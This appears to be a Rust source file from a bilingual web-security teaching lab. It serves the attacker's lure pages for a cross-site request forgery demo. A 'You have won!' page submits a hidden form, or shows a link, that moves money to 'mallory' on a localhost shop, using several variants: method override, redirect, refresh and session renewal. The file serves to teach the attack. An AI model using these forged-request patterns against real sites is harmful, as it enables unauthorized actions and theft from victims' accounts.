//! The attacker's pages of this lab: a form that nobody sees, or a link.

use rocket::{Route, get, routes};
use url::form_urlencoded;

use crate::book::attacks::notes::Did;
use crate::book::attacks::page::LabPage;
use crate::book::attacks::visit::Evil;
use crate::html::escape;
use crate::http::lab_hosts::LabHost;
use crate::http::lab_page::{LabAnswer, TWO_MINUTES_AND_MORE};
use crate::lang::Text;

const LURED: Did = Did::new("lured", "给出一页：{}", "served a page: {}");

/// The routes of the pages.
pub fn routes() -> Vec<Route> {
    routes![prize, claim]
}

/// The first page: a form that nobody sees, or a link, by the way that the attack takes.
#[get("/<_>/ride/prize")]
fn prize(evil: Evil<'_>) -> LabAnswer {
    let number = evil.change(|lab| lab.way);
    let way = evil.lab.ways.get(number).map_or("form", |it| it.name);
    let mut page = evil.page(&PRIZE);
    if ["late", "renewed"].contains(&way) {
        page = page.wait(TWO_MINUTES_AND_MORE);
    }
    let back = evil.url(LabHost::Evil, "/claim");
    let back: String = form_urlencoded::byte_serialize(back.as_bytes()).collect();
    let renewed = format!("/stay?back={back}");
    let below = match way {
        "link" => "/pay?to=mallory&amount=60",
        "method" => "/transfer?_method=POST&to=mallory&amount=60",
        "redirect" => "/go?to=%2Fpay%3Fto%3Dmallory%26amount%3D60",
        "refresh" => "/moment?to=%2Fpay%3Fto%3Dmallory%26amount%3D60",
        "renewed" => &renewed,
        _ => return form(&evil, page),
    };
    evil.did(&LURED, &format!("<a href=…{below}>"));
    let address = format!("<p><code>{}</code></p>", escape(below));
    let url = evil.url(LabHost::Shop, below);
    page.p(&LINK_LEAD).html(&address).next_link(&url, &CLAIM).done()
}

/// The page to which the shop sends back: the form.
#[get("/<_>/ride/claim")]
fn claim(evil: Evil<'_>) -> LabAnswer {
    form(&evil, evil.page(&PRIZE))
}

/// A page with the form that nobody sees.
fn form(evil: &Evil<'_>, page: LabPage) -> LabAnswer {
    evil.did(&LURED, "<form method=post>");
    let fields = [("to", "mallory"), ("amount", "60")];
    let url = evil.url(LabHost::Shop, "/transfer");
    page.p(&PRIZE_LEAD).next_form(&url, &fields, &CLAIM).done()
}

const PRIZE: Text = Text { zh: "恭喜，你中奖了！", en: "You have won!" };
const PRIZE_LEAD: Text = Text {
    zh: "看到的只有一个按钮。它的表单提交到 <code>shop.localhost</code>：<code>to=mallory&amp;amount=60</code>。真的攻击者连按钮也不要，用脚本提交。",
    en: "All you see is a button. Its form is posted to <code>shop.localhost</code>: <code>to=mallory&amp;amount=60</code>. A real attacker needs no button, a script posts it.",
};
const LINK_LEAD: Text = Text {
    zh: "看到的只有一个链接，指向 <code>shop.localhost</code> 的这个地址：",
    en: "All you see is a link. It leads to this address of <code>shop.localhost</code>:",
};
const CLAIM: Text = Text { zh: "领奖", en: "Claim the prize" };
